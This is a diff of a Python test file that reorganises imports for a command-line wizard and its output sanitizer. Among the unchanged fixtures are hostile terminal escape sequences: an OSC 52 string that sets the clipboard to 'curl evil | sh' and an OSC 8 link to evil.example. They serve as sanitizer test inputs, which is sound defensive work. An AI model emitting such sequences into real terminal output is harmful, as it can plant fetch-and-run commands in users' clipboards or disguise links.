@@ -39,16 +39,17 @@ from screens.dialogs.help import HelpDialog
 from screens.widgets.safe_static import SafeStatic
 from tests.conftest import NOW, SECRET_KEY, MakeProject
 from tests.ui_support import make_app, paste_token, settle
+from wizard.checks.model import Check
+from wizard.checks.options import Options
 from wizard.cli import main
-from wizard.engine import Options, run_checks
-from wizard.local_issuer import LocalIssuer
-from wizard.model import Check
-from wizard.progress import Progress, StepState
-from wizard.redaction import TOKEN_REMOVED, scrub_usage
-from wizard.render import render_human
-from wizard.report import build_report, md_cell, render_json, render_markdown
-from wizard.safe_text import DEEPER, NOT_A_NUMBER, bounded, json_text, one_line, visible
-from wizard.state import StateStore
+from wizard.demo.local_issuer import LocalIssuer
+from wizard.guards.redaction import TOKEN_REMOVED, scrub_usage
+from wizard.guards.safe_text import DEEPER, NOT_A_NUMBER, bounded, json_text, one_line, visible
+from wizard.output.render import render_human
+from wizard.output.report import build_report, md_cell, render_json, render_markdown
+from wizard.walkthrough.progress import Progress, StepState
+from wizard.walkthrough.session import run_checks
+from wizard.walkthrough.state import StateStore
 
 OSC52 = "\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07"  # sets the clipboard to "curl evil | sh"
 OSC8 = "\x1b]8;;http://evil.example\x1b\\"
@@ -147,7 +148,7 @@ def hostile_token(issuer: LocalIssuer, text: str, *, kid: str | None = None) -> 
 
 # --- the sanitizer itself -------------------------------------------------------------------
 def test_every_unsafe_character_is_made_visible() -> None:
-    """The ranges in wizard.safe_text cover every Cc, Cf, Cs, Zl and Zp code point this Python
+    """The ranges in wizard.guards.safe_text cover every Cc, Cf, Cs, Zl and Zp code point this Python
     knows (a few more are format characters in newer Unicode versions), and nothing the tool
     itself prints (letters, symbols, emoji, the variation selector of ⚠️) is touched."""
     beyond = []
